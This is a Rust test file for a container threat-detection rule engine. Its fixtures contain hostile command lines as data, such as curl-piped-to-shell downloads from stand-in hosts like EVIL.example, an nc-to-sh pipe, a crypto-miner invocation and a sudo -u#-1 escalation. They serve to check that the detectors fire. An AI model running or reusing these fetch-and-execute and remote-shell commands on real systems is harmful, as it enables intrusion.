use crate::testing::CID;
use crate::{DetectorsConfig, Engine, EngineConfig};
use std::path::PathBuf;
use std::sync::Arc;
use ward_event::build::*;
use ward_event::finding::{Evidence, Severity};
use ward_event::{Category, Event, Finding, Layer};
use ward_intel::IntelSet;
use ward_rules::RuleSet;

fn shipped() -> Arc<RuleSet> {
    Arc::new(RuleSet::shipped_and(&[]).expect("the shipped rules load"))
}

fn run_rules(rules: Arc<RuleSet>, events: Vec<Event>) -> Vec<Finding> {
    run_rules_with(Arc::new(IntelSet::new()), rules, events)
}

fn run_rules_with(intel: Arc<IntelSet>, rules: Arc<RuleSet>, events: Vec<Event>) -> Vec<Finding> {
    let mut engine = Engine::new(
        &EngineConfig::default(),
        &DetectorsConfig::default(),
        intel,
        None,
    );
    engine.set_rules(rules).expect("categories register");
    let mut out = Vec::new();
    for e in events {
        engine.process(e, &mut out);
    }
    let mut findings: Vec<Finding> = Vec::new();
    for u in out {
        match findings.iter_mut().find(|f| f.name == u.finding.name) {
            Some(f) => *f = u.finding,
            None => findings.push(u.finding),
        }
    }
    findings
}

fn in_c(b: ExecBuilder) -> ExecBuilder {
    b.container(CID, "web", "registry.example/web:1")
}

/// nginx master, a worker forked from it, and a shell the worker runs.
fn nginx_shell(t: u64, pid: u32, argv: &[&str]) -> Vec<Event> {
    vec![
        fork(t, pid, 100),
        in_c(ExecBuilder::new(t + 1, pid, 100, "/bin/sh").binary_path("/usr/bin/dash"))
            .args(argv)
            .event(),
    ]
}

fn nginx() -> Vec<Event> {
    vec![
        in_c(ExecBuilder::new(1, 100, 1, "/usr/sbin/nginx").args(&["nginx", "-g", "daemon off;"]))
            .event(),
    ]
}

#[test]
fn a_shell_under_a_web_server_is_an_unexpected_child_shell() {
    let mut ev = nginx();
    ev.extend(nginx_shell(10, 200, &["sh", "-c", "id"]));
    let f = run_rules(shipped(), ev);
    assert_eq!(
        f.len(),
        1,
        "{:?}",
        f.iter().map(|f| &f.category).collect::<Vec<_>>()
    );
    let f = &f[0];
    assert_eq!(f.category, "Unexpected Child Shell");
    assert_eq!(f.severity, Severity::Critical);
    assert_eq!(f.source_str("Rule_Id"), Some("UNEXPECTED_CHILD_SHELL"));
    assert_eq!(f.source_str("Detector"), Some("rules"));
    assert_eq!(f.mitre_attack.primary_tactic, "EXECUTION");
    assert_eq!(
        f.mitre_attack.primary_techniques,
        vec!["UNIX_SHELL", "EXPLOIT_PUBLIC_FACING_APPLICATION"]
    );
    assert_eq!(
        f.source_properties["Mitre_Technique_Ids"],
        serde_json::json!(["T1059.004", "T1190"])
    );
    assert!(f.next_steps.contains("web shell"), "{}", f.next_steps);
    assert!(f
        .description
        .contains("Rule UNEXPECTED_CHILD_SHELL matched"));
    let ev = f.evidence();
    assert!(
        ev.contains(&Evidence {
            field: "parent.basename".into(),
            value: "nginx".into()
        }),
        "{ev:?}"
    );
    assert!(ev.contains(&Evidence {
        field: "basename".into(),
        value: "sh".into()
    }));
    // The process tree: the shell, then nginx.
    assert_eq!(f.processes[0].pid, 200);
    assert_eq!(f.processes[1].pid, 100);
    // The category is in the table, for filters and the API.
    let c = Category::parse("UNEXPECTED_CHILD_SHELL").expect("registered");
    assert_eq!(c.display_name(), "Unexpected Child Shell");
}

#[test]
fn repeats_aggregate_by_the_rules_key() {
    // key = parent_exe: every shell nginx starts is one finding with a count.
    let mut ev = nginx();
    ev.extend(nginx_shell(10, 200, &["sh", "-c", "id"]));
    ev.extend(nginx_shell(20, 201, &["sh", "-c", "uname -a"]));
    let f = run_rules(shipped(), ev);
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].count(), 2);
    assert_eq!(
        f[0].source_properties["Commands"],
        serde_json::json!(["sh -c id", "sh -c uname -a"])
    );
}

#[test]
fn look_alikes_stay_quiet() {
    let ev = vec![
        // An entrypoint's shell under the container's init.
        in_c(ExecBuilder::new(1, 50, 1, "/usr/bin/catatonit")).event(),
        fork(2, 51, 50),
        in_c(ExecBuilder::new(3, 51, 50, "/bin/bash").args(&["bash", "/entrypoint.sh"])).event(),
        // A shell under nginx on the host (the rule is for containers).
        ExecBuilder::new(4, 60, 1, "/usr/sbin/nginx").event(),
        fork(5, 61, 60),
        ExecBuilder::new(6, 61, 60, "/bin/sh")
            .args(&["sh", "-c", "logrotate"])
            .event(),
        // A plain base64 decode and an ordinary program from /tmp's image layer.
        in_c(ExecBuilder::new(7, 70, 51, "/usr/bin/base64").args(&["base64", "-d", "in.txt"]))
            .event(),
    ];
    let f = run_rules(shipped(), ev);
    assert!(
        f.is_empty(),
        "{:?}",
        f.iter().map(|f| &f.category).collect::<Vec<_>>()
    );
}

#[test]
fn several_categories_from_the_shipped_rules() {
    let mut ev = nginx();
    ev.extend([
        fork(10, 300, 100),
        in_c(
            ExecBuilder::new(11, 300, 100, "/memfd:x (deleted)")
                .binary_path("/memfd:x (deleted)")
                .layer(Layer::Memfd),
        )
        .args(&["x"])
        .event(),
        fork(12, 301, 100),
        in_c(ExecBuilder::new(13, 301, 100, "/tmp/xmrig"))
            .args(&["xmrig", "-o", "stratum+tcp://pool.example:3333", "-u", "w"])
            .event(),
        fork(14, 302, 100),
        in_c(ExecBuilder::new(15, 302, 100, "/usr/bin/sudo"))
            .args(&["sudo", "-u#-1", "/bin/bash"])
            .event(),
    ]);
    let f = run_rules(shipped(), ev);
    let mut ids: Vec<&str> = f.iter().filter_map(|f| f.source_str("Rule_Id")).collect();
    ids.sort();
    assert_eq!(
        ids,
        vec![
            "ABUSE_SUDO_FOR_PRIVILEGE_ESCALATION",
            "FILELESS_EXECUTION_DETECTION_MEMFD",
            "SUSPICIOUS_CRYPTO_MINING_ACTIVITY_USING_STRATUM_PROTOCOL",
        ]
    );
    let miner = f
        .iter()
        .find(|f| {
            f.source_str("Rule_Id")
                == Some("SUSPICIOUS_CRYPTO_MINING_ACTIVITY_USING_STRATUM_PROTOCOL")
        })
        .unwrap();
    assert_eq!(miner.severity, Severity::High);
    assert_eq!(
        miner.mitre_attack.primary_techniques,
        vec!["RESOURCE_HIJACKING"]
    );
}

const OWN: &str = r#"
[[rule]]
id = "TEST_DETECT_TOOL_UNDER_CRON"
category = "Test: Tool Under Cron"
severity = "LOW"
tactic = "EXECUTION"
techniques = ["T1053"]
description = "A tool ran somewhere under cron."
next_steps = "Look at the crontab."
key = "rule"
[rule.when]
basename = ["curl"]
ancestor = { basename = ["cron"] }
[[rule.test]]
expect = "fire"
exec = { exe = "/usr/bin/curl", parent = { exe = "/bin/sh", parent = { exe = "/usr/sbin/cron" } } }
[[rule.test]]
expect = "quiet"
exec = { exe = "/usr/bin/curl", parent = { exe = "/bin/sh" } }
"#;

fn own() -> RuleSet {
    RuleSet::from_texts(&[(0, PathBuf::from("own.toml"), OWN.to_string())]).expect("loads")
}

fn cron_curl() -> Vec<Event> {
    vec![
        in_c(ExecBuilder::new(1, 10, 1, "/usr/sbin/cron")).event(),
        fork(2, 11, 10),
        in_c(ExecBuilder::new(3, 11, 10, "/bin/sh"))
            .args(&["sh", "-c", "job"])
            .event(),
        fork(4, 12, 11),
        in_c(ExecBuilder::new(5, 12, 11, "/usr/bin/curl"))
            .args(&["curl", "x"])
            .event(),
    ]
}

#[test]
fn ancestry_comes_from_the_process_table() {
    let f = run_rules(Arc::new(own()), cron_curl());
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].category, "Test: Tool Under Cron");
    assert_eq!(f[0].severity, Severity::Low);
    assert!(
        f[0].evidence().contains(&Evidence {
            field: "ancestor[2].basename".into(),
            value: "cron".into()
        }),
        "{:?}",
        f[0].evidence()
    );
    // Without the cron ancestor (the shell's parent unknown to the table): quiet.
    let f = run_rules(Arc::new(own()), cron_curl().split_off(2));
    assert!(f.is_empty());
}

#[test]
fn a_rule_switched_off_reports_nothing() {
    let mut set = own();
    assert!(set
        .set_enabled([("TEST_DETECT_TOOL_UNDER_CRON", false)])
        .is_empty());
    let f = run_rules(Arc::new(set), cron_curl());
    assert!(f.is_empty());
}

#[test]
fn a_rule_cannot_redefine_a_built_in_category() {
    let text = OWN.replace("Test: Tool Under Cron", "Reverse Shell");
    let set = RuleSet::from_texts(&[(0, PathBuf::from("bad.toml"), text)]).unwrap();
    let mut engine = Engine::new(
        &EngineConfig::default(),
        &DetectorsConfig::default(),
        Arc::new(IntelSet::new()),
        None,
    );
    let e = engine.set_rules(Arc::new(set)).unwrap_err();
    let msg = e.to_string();
    assert!(msg.contains("REVERSE_SHELL"), "{msg}");
    assert!(
        msg.starts_with("bad.toml:2: rule TEST_DETECT_TOOL_UNDER_CRON"),
        "{msg}"
    );
}

// Pipe neighbours (docs/rules.md "Pipe neighbours"): answered from the process table's pipe
// index by inode.

use ward_event::FdKind;

const SEC: u64 = 1_000_000_000;

fn rule_ids(f: &[Finding]) -> Vec<&str> {
    let mut ids: Vec<&str> = f.iter().filter_map(|f| f.source_str("Rule_Id")).collect();
    ids.sort();
    ids
}

/// A shell (pid 500) in the container running `curl ... | base64 -d | sh`: curl 501 writes
/// pipe 9001, base64 502 reads it and writes pipe 9002, sh 503 reads that. `order` gives the
/// order of the three execs (pids); `exits` the pids that exit right after their exec.
fn curl_base64_sh(order: &[u32], exits: &[u32], gap: u64) -> Vec<Event> {
    let (p1, p2) = (fd(FdKind::Pipe, 9001), fd(FdKind::Pipe, 9002));
    let log = fd(FdKind::Pipe, 600);
    let mut ev = vec![in_c(
        ExecBuilder::new(1, 500, 1, "/bin/bash")
            .args(&[
                "bash",
                "-c",
                "curl -s http://127.0.0.1:8080/p | base64 -d | sh",
            ])
            .stdio(1, log.clone()),
    )
    .event()];
    let mut t = 10;
    for pid in [501, 502, 503] {
        ev.push(fork(t, pid, 500));
        t += 1;
    }
    for &pid in order {
        t += gap;
        let b = match pid {
            501 => ExecBuilder::new(t, 501, 500, "/usr/bin/curl")
                .args(&["curl", "-s", "http://127.0.0.1:8080/p"])
                .stdio(1, p1.clone()),
            502 => ExecBuilder::new(t, 502, 500, "/usr/bin/base64")
                .args(&["base64", "-d"])
                .stdio(0, p1.clone())
                .stdio(1, p2.clone()),
            _ => ExecBuilder::new(t, 503, 500, "/bin/sh")
                .binary_path("/usr/bin/dash")
                .args(&["sh"])
                .stdio(0, p2.clone())
                .stdio(1, log.clone()),
        };
        ev.push(in_c(b).event());
        if exits.contains(&pid) {
            t += 1;
            ev.push(exit(t, pid));
        }
    }
    ev
}

const BOTH: [&str; 2] = ["PIPED_ENCODED_CODE_EXECUTION", "PIPED_ENCODED_DOWNLOAD"];

#[test]
fn curl_base64_sh_fires_both_piped_rules_in_any_exec_order() {
    let orders: [[u32; 3]; 6] = [
        [501, 502, 503],
        [501, 503, 502],
        [502, 501, 503],
        [502, 503, 501],
        [503, 501, 502],
        [503, 502, 501],
    ];
    for order in orders {
        let f = run_rules(shipped(), curl_base64_sh(&order, &[], 1));
        assert_eq!(rule_ids(&f), BOTH, "exec order {order:?}");
        for f in &f {
            assert_eq!(f.count(), 1, "exec order {order:?}: {}", f.category);
        }
    }
    // The evidence names the other end.
    let f = run_rules(shipped(), curl_base64_sh(&[501, 502, 503], &[], 1));
    let dl = f
        .iter()
        .find(|f| f.source_str("Rule_Id") == Some("PIPED_ENCODED_DOWNLOAD"))
        .unwrap();
    assert!(
        dl.evidence().contains(&Evidence {
            field: "stdin_writer.basename".into(),
            value: "curl".into()
        }),
        "{:?}",
        dl.evidence()
    );
    assert_eq!(dl.processes[0].pid, 502);
}

#[test]
fn a_neighbour_that_exited_just_before_still_counts_and_a_long_gone_one_does_not() {
    // curl finished (and base64 too) before the next member of the pipeline exec'd.
    let f = run_rules(shipped(), curl_base64_sh(&[501, 502, 503], &[501, 502], 1));
    assert_eq!(rule_ids(&f), BOTH);
    // Seconds apart (beyond the grace): pipe inodes are not matched to a process long gone.
    let f = run_rules(
        shipped(),
        curl_base64_sh(&[501, 502, 503], &[501, 502], 3 * SEC),
    );
    assert!(f.is_empty(), "{:?}", rule_ids(&f));
}

#[test]
fn pipe_look_alikes_stay_quiet() {
    let (p1, p2) = (fd(FdKind::Pipe, 9101), fd(FdKind::Pipe, 9102));
    let mut ev = vec![in_c(ExecBuilder::new(1, 500, 1, "/bin/bash").args(&["bash"])).event()];
    // curl | jq, and cat file | base64 -d | tee key.pem.
    ev.extend([
        fork(2, 501, 500),
        fork(3, 502, 500),
        in_c(ExecBuilder::new(4, 501, 500, "/usr/bin/curl").args(&["curl", "-s", "http://m/t"]))
            .stdio(1, p1.clone())
            .event(),
        in_c(ExecBuilder::new(5, 502, 500, "/usr/bin/jq").args(&["jq", ".token"]))
            .stdio(0, p1.clone())
            .event(),
        fork(6, 503, 500),
        fork(7, 504, 500),
        fork(8, 505, 500),
        in_c(ExecBuilder::new(9, 503, 500, "/usr/bin/cat").args(&["cat", "/run/cert.b64"]))
            .stdio(1, p2.clone())
            .event(),
        in_c(ExecBuilder::new(10, 504, 500, "/usr/bin/base64").args(&["base64", "-d"]))
            .stdio(0, p2.clone())
            .stdio(1, fd(FdKind::Pipe, 9103))
            .event(),
        in_c(ExecBuilder::new(11, 505, 500, "/usr/bin/tee").args(&["tee", "/tmp/key.pem"]))
            .stdio(0, fd(FdKind::Pipe, 9103))
            .event(),
    ]);
    let f = run_rules(shipped(), ev);
    assert!(f.is_empty(), "{:?}", rule_ids(&f));
}

#[test]
fn a_pipe_end_in_another_container_or_on_the_host_is_no_neighbour() {
    // The same inode numbers on both sides, but curl is on the host: no pair.
    let p1 = fd(FdKind::Pipe, 9201);
    let ev = vec![
        ExecBuilder::new(1, 700, 1, "/usr/bin/curl")
            .args(&["curl", "-s", "http://x/p"])
            .stdio(1, p1.clone())
            .event(),
        in_c(ExecBuilder::new(2, 701, 1, "/usr/bin/base64").args(&["base64", "-d"]))
            .stdio(0, p1.clone())
            .event(),
    ];
    let f = run_rules(shipped(), ev);
    assert!(f.is_empty(), "{:?}", rule_ids(&f));
}

#[test]
fn a_forked_subshell_that_did_not_exec_is_no_neighbour() {
    // `nc HOST PORT | while read l; do ...; done` typed into an interactive bash: the reader
    // of nc's stdout is a fork of bash that never exec'd. Handing back the exec it inherited
    // (`bash`, no arguments) would make this `nc | bash`.
    let p = fd(FdKind::Pipe, 9301);
    let ev = vec![
        in_c(ExecBuilder::new(1, 500, 1, "/bin/bash").args(&["bash"])).event(),
        fork(2, 501, 500),
        fork(3, 502, 500),
        dup(4, 502, 0, p.clone()),
        in_c(ExecBuilder::new(5, 501, 500, "/usr/bin/nc").args(&["nc", "127.0.0.1", "9000"]))
            .stdio(1, p.clone())
            .event(),
    ];
    let f = run_rules(shipped(), ev.clone());
    assert!(f.is_empty(), "{:?}", rule_ids(&f));
    // The same with the reader exec'ing a shell of its own: `nc ... | sh` fires.
    let mut ev = ev;
    ev.push(
        in_c(ExecBuilder::new(6, 502, 500, "/bin/sh").args(&["sh"]))
            .stdio(0, p)
            .event(),
    );
    let f = run_rules(shipped(), ev);
    assert_eq!(
        rule_ids(&f),
        vec!["NETCAT_REMOTE_CODE_EXECUTION_IN_CONTAINER"]
    );
}

#[test]
fn the_pipe_index_is_kept_only_for_rules_that_ask() {
    let mut engine = Engine::new(
        &EngineConfig::default(),
        &DetectorsConfig::default(),
        Arc::new(IntelSet::new()),
        None,
    );
    assert!(!engine.table().pipe_index_on());
    engine.set_rules(Arc::new(own())).unwrap();
    assert!(!engine.table().pipe_index_on(), "no rule of own() asks");
    engine.set_rules(shipped()).unwrap();
    assert!(engine.table().pipe_index_on());
}

// Missing container metadata with on_missing_metadata = "wait" (docs/rules.md "Missing
// container metadata"): the engine holds the decision until a later exec of the container
// brings the metadata, or alerts when none does within `[detectors.rules] metadata_wait`.

const WAITING: &str = r#"
[[rule]]
id = "TEST_CURL_OUTSIDE_THE_TOOLS_IMAGE"
category = "Test: Curl Outside The Tools Image"
severity = "LOW"
tactic = "EXECUTION"
techniques = ["T1105"]
description = "curl ran in a container that is not the tools image."
next_steps = "Ask the owner."
on_missing_metadata = "wait"
[rule.when]
basename = ["curl"]
scope = "container"
[[rule.exception]]
reason = "the tools image runs curl by design"
when = { image = { prefix = ["registry.example/tools:"] } }
[[rule.test]]
expect = "fire"
exec = { exe = "/usr/bin/curl", image = "registry.example/web:1" }
[[rule.test]]
expect = "quiet"
exec = { exe = "/usr/bin/curl", image = "registry.example/tools:3" }
[[rule.test]]
expect = "wait"
exec = { exe = "/usr/bin/curl", metadata = false }
"#;

fn waiting_rules() -> Arc<RuleSet> {
    Arc::new(
        RuleSet::from_texts(&[(0, PathBuf::from("wait.toml"), WAITING.to_string())])
            .expect("loads"),
    )
}

const CID2: &str = "77aa7f0a1b2c3d4e5f60718293a4b5c6d7e8f90112233445566778899aabbcc0";

fn engine_with(rules: Arc<RuleSet>) -> Engine {
    let mut engine = Engine::new(
        &EngineConfig::default(),
        &DetectorsConfig::default(),
        Arc::new(IntelSet::new()),
        None,
    );
    engine.set_rules(rules).expect("categories register");
    engine
}

/// curl in container CID2 whose metadata the enricher could not get (a note, no image).
fn curl_without_metadata(t: u64, pid: u32) -> Event {
    let mut e = ExecBuilder::new(t, pid, 1, "/usr/bin/curl")
        .args(&["curl", "http://127.0.0.1/"])
        .container(CID2, "", "")
        .build();
    if let Some(m) = e.container.as_mut() {
        m.note = Some("metadata unavailable: timed out after 200 ms".into());
    }
    Event::Exec(Box::new(e))
}

fn any_exec_of(t: u64, pid: u32, image: &str) -> Event {
    ExecBuilder::new(t, pid, 1, "/usr/bin/env")
        .container(CID2, "app", image)
        .event()
}

fn feed(engine: &mut Engine, events: Vec<Event>) -> Vec<FindingUpdate> {
    let mut out = Vec::new();
    for e in events {
        engine.process(e, &mut out);
    }
    out
}

use crate::FindingUpdate;

#[test]
fn a_waiting_rule_is_decided_by_the_metadata_a_later_exec_brings() {
    // The container turns out to be the tools image: the exception holds, nothing fires.
    let mut engine = engine_with(waiting_rules());
    let out = feed(&mut engine, vec![curl_without_metadata(SEC, 10)]);
    assert!(out.is_empty(), "held, not fired");
    assert_eq!(engine.rules_waiting(), 1);
    let out = feed(
        &mut engine,
        vec![any_exec_of(SEC + 1000, 11, "registry.example/tools:3")],
    );
    assert!(out.is_empty());
    assert_eq!(engine.rules_waiting(), 0);
    // Nothing is left to fire on expiry or at the end.
    let out = feed(&mut engine, vec![any_exec_of(10 * SEC, 12, "x")]);
    assert!(out.is_empty());

    // Another image: it fires, once, with the image in the finding and its evidence.
    let mut engine = engine_with(waiting_rules());
    let mut out = feed(
        &mut engine,
        vec![
            curl_without_metadata(SEC, 10),
            exit(SEC + 10, 10),
            any_exec_of(SEC + 1000, 11, "registry.example/web:1"),
        ],
    );
    assert_eq!(out.len(), 1, "{out:?}");
    assert_eq!(engine.rules_waiting(), 0);
    let f = out.remove(0).finding;
    assert_eq!(f.category, "Test: Curl Outside The Tools Image");
    // Built from the exec as judged: curl (gone from the table by now), in its container,
    // with the metadata that arrived.
    assert_eq!(f.processes[0].pid, 10);
    assert_eq!(f.processes[0].name, "curl");
    assert_eq!(f.source_str("Container_Id"), Some(CID2));
    assert_eq!(
        f.source_str("Container_Image_Uri"),
        Some("registry.example/web:1")
    );
    assert!(f.description.contains("curl"), "{}", f.description);
}

#[test]
fn a_waiting_rule_alerts_when_the_metadata_does_not_come_in_time() {
    let mut engine = engine_with(waiting_rules());
    let out = feed(
        &mut engine,
        vec![
            curl_without_metadata(SEC, 10),
            // Within the wait, events without the metadata (another container, a fork): held.
            fork(SEC + 500_000_000, 20, 1),
            curl_without_metadata(SEC + 600_000_000, 21),
        ],
    );
    assert!(out.is_empty(), "{out:?}");
    assert_eq!(engine.rules_waiting(), 2);
    // Past the first deadline (2 s of event time): the first alerts, the second still waits.
    let out = feed(&mut engine, vec![fork(3 * SEC + 1, 30, 1)]);
    assert_eq!(out.len(), 1);
    assert_eq!(engine.rules_waiting(), 1);
    assert!(
        out[0]
            .finding
            .evidence()
            .iter()
            .any(|e| e.field == "container_metadata" && e.value.starts_with(ward_rules::MISSING)),
        "{:?}",
        out[0].finding.evidence()
    );
    // The end of the stream decides the rest (alert).
    let mut out = Vec::new();
    engine.finish(&mut out);
    assert_eq!(out.len(), 1);
    assert_eq!(engine.rules_waiting(), 0);
}

#[test]
fn plain_alert_rules_and_execs_with_metadata_do_not_wait() {
    // Known image at exec: decided at once.
    let mut engine = engine_with(waiting_rules());
    let out = feed(
        &mut engine,
        vec![ExecBuilder::new(SEC, 10, 1, "/usr/bin/curl")
            .container(CID2, "web", "registry.example/web:1")
            .event()],
    );
    assert_eq!(out.len(), 1);
    assert_eq!(engine.rules_waiting(), 0);
    // The same rule with on_missing_metadata = "alert": fires at once without metadata.
    let alert = WAITING
        .replace("on_missing_metadata = \"wait\"\n", "")
        .replace(
        "[[rule.test]]\nexpect = \"wait\"\nexec = { exe = \"/usr/bin/curl\", metadata = false }\n",
        "",
    );
    let set = RuleSet::from_texts(&[(0, PathBuf::from("alert.toml"), alert)]).expect("loads");
    let mut engine = engine_with(Arc::new(set));
    let out = feed(&mut engine, vec![curl_without_metadata(SEC, 10)]);
    assert_eq!(out.len(), 1);
    assert_eq!(engine.rules_waiting(), 0);
}

#[test]
fn waiting_decisions_are_bounded() {
    use super::MAX_WAITING;
    let mut engine = engine_with(waiting_rules());
    let events: Vec<Event> = (0..MAX_WAITING as u32 + 5)
        .map(|i| curl_without_metadata(SEC + i as u64, 1000 + i))
        .collect();
    let out = feed(&mut engine, events);
    assert_eq!(engine.rules_waiting(), MAX_WAITING);
    // The 5 oldest alerted at once (one finding: same key, aggregated).
    assert_eq!(out.len(), 5, "{}", out.len());
}

fn url_feed(text: &str) -> Arc<IntelSet> {
    let mut set = IntelSet::new();
    set.push_url_feed(ward_intel::UrlFeed::parse("test-urls", text.as_bytes()).unwrap());
    Arc::new(set)
}

fn downloads() -> Vec<Event> {
    let cmd = |t: u64, pid: u32, exe: &str, argv: &[&str]| {
        vec![
            fork(t, pid, 1),
            in_c(ExecBuilder::new(t + 1, pid, 1, exe))
                .args(argv)
                .event(),
        ]
    };
    [
        // A listed URL, written differently from the feed's line.
        cmd(
            10,
            300,
            "/usr/bin/wget",
            &[
                "wget",
                "-q",
                "HTTP://Drop.Example.:80/bins/x86#a",
                "-O",
                "/tmp/x",
            ],
        ),
        // A URL on a listed host, inside a shell's -c string.
        cmd(
            20,
            301,
            "/bin/sh",
            &["sh", "-c", "curl -fsSL https://EVIL.example/a.sh|sh"],
        ),
        // A name under a listed domain, named alone (ssh).
        cmd(30, 302, "/usr/bin/ssh", &["ssh", "root@a.b.c2.example"]),
        // Look-alikes: another path on the URL entry's host, a name that only ends like the
        // domain, a file name, a URL the feed does not list.
        cmd(
            40,
            303,
            "/usr/bin/wget",
            &["wget", "http://drop.example/bins/arm"],
        ),
        cmd(50, 304, "/usr/bin/ssh", &["ssh", "root@notc2.example"]),
        cmd(60, 305, "/usr/bin/gcc", &["gcc", "-c", "evil.c"]),
        cmd(
            70,
            306,
            "/usr/bin/curl",
            &["curl", "https://registry.npmjs.org/express"],
        ),
    ]
    .concat()
}

const URLS: &str = "http://drop.example/bins/x86 # mirai\nevil.example\n*.c2.example\n";

#[test]
fn the_url_rule_answers_from_the_loaded_url_feeds() {
    let f = run_rules_with(url_feed(URLS), shipped(), downloads());
    let url: Vec<&Finding> = f
        .iter()
        .filter(|f| f.source_str("Rule_Id") == Some("MALICIOUS_URL_OBSERVED"))
        .collect();
    let got: Vec<(String, Vec<Evidence>)> = url
        .iter()
        .map(|f| (f.processes[0].name.clone(), f.evidence()))
        .collect();
    let ev = |field: &str, value: &str, entry: &str| {
        vec![
            Evidence {
                field: field.into(),
                value: value.into(),
            },
            // Which feed entry matched, and its comment.
            Evidence {
                field: "url_feed".into(),
                value: entry.into(),
            },
        ]
    };
    assert_eq!(
        got,
        [
            (
                "wget".to_string(),
                ev(
                    "argv.url",
                    "HTTP://Drop.Example.:80/bins/x86#a",
                    "test-urls: url http://drop.example/bins/x86 (mirai)"
                )
            ),
            (
                "sh".to_string(),
                ev(
                    "argv.url",
                    "https://EVIL.example/a.sh",
                    "test-urls: host evil.example"
                )
            ),
            (
                "ssh".to_string(),
                ev(
                    "argv.host",
                    "a.b.c2.example",
                    "test-urls: domain *.c2.example"
                )
            ),
        ]
    );
    assert_eq!(url[0].category, "Malicious URL Observed");
    assert_eq!(url[0].severity, Severity::Medium);
}

#[test]
fn without_a_url_feed_the_url_rule_finds_nothing() {
    // Hash feeds only: no URL feed, nothing is listed.
    let f = run_rules_with(
        crate::testing::intel("5c0f4d6f0c1b3f6a4a8f1f5b7d3e2c1a0b9f8e7d6c5b4a3f2e1d0c9b8a7f6e5d\n"),
        shipped(),
        downloads(),
    );
    assert!(
        !f.iter()
            .any(|f| f.source_str("Rule_Id") == Some("MALICIOUS_URL_OBSERVED")),
        "{:?}",
        rule_ids(&f)
    );
}

/// An exec in a container with this environment.
fn with_env(t: u64, pid: u32, path: &str, env: &[&str]) -> Vec<Event> {
    vec![
        fork(t, pid, 100),
        in_c(ExecBuilder::new(t + 1, pid, 100, path))
            .env(env)
            .event(),
    ]
}

fn run_env(report: bool, events: Vec<Event>) -> Vec<Finding> {
    let mut rules = RuleSet::shipped_and(&[]).expect("the shipped rules load");
    let unknown = rules.set_enabled([("PROGRAM_RUN_WITH_DISALLOWED_HTTP_PROXY_ENV", true)]);
    assert!(unknown.is_empty(), "{unknown:?}");
    let cfg = EngineConfig {
        report_environment_variables: report,
        ..EngineConfig::default()
    };
    let mut engine = Engine::new(
        &cfg,
        &DetectorsConfig::default(),
        Arc::new(IntelSet::new()),
        None,
    );
    engine
        .set_rules(Arc::new(rules))
        .expect("categories register");
    let mut out = Vec::new();
    for e in events {
        engine.process(e, &mut out);
    }
    out.into_iter()
        .filter(|u| u.is_new)
        .map(|u| u.finding)
        .collect()
}

#[test]
fn env_rules_fire_with_evidence_and_env_variables_follow_the_switch() {
    let mut events = nginx();
    events.extend(with_env(
        10,
        200,
        "/usr/bin/curl",
        &["PATH=/usr/bin", "HTTP_PROXY=http://127.0.0.1:3128"],
    ));
    events.extend(with_env(
        20,
        201,
        "/usr/bin/id",
        &["LD_PRELOAD=/tmp/x.so", "HOME=/root"],
    ));
    // An ordinary environment: quiet.
    events.extend(with_env(
        30,
        202,
        "/usr/bin/id",
        &["PATH=/usr/bin", "HOME=/root"],
    ));
    for report in [false, true] {
        let f = run_env(report, events.clone());
        assert_eq!(
            rule_ids(&f),
            [
                "LD_PRELOAD_FROM_TEMPORARY_DIRECTORY",
                "PROGRAM_RUN_WITH_DISALLOWED_HTTP_PROXY_ENV",
            ]
        );
        let by = |id: &str| {
            f.iter()
                .find(|x| x.source_str("Rule_Id") == Some(id))
                .unwrap()
                .clone()
        };
        let f = [
            by("PROGRAM_RUN_WITH_DISALLOWED_HTTP_PROXY_ENV"),
            by("LD_PRELOAD_FROM_TEMPORARY_DIRECTORY"),
        ];
        assert!(f[0].evidence().contains(&Evidence {
            field: "env".into(),
            value: "HTTP_PROXY=http://127.0.0.1:3128".into(),
        }));
        assert!(
            f[1].description.contains("env = LD_PRELOAD=/tmp/x.so"),
            "{}",
            f[1].description
        );
        let env = &f[1].processes[0].env_variables;
        if report {
            let got: Vec<(&str, &str)> = env
                .iter()
                .map(|e| (e.name.as_str(), e.val.as_str()))
                .collect();
            assert_eq!(got, [("LD_PRELOAD", "/tmp/x.so"), ("HOME", "/root")]);
        } else {
            assert!(env.is_empty(), "{env:?}");
            let json = serde_json::to_string(&f[1]).unwrap();
            assert!(!json.contains("envVariables"), "{json}");
        }
    }
}
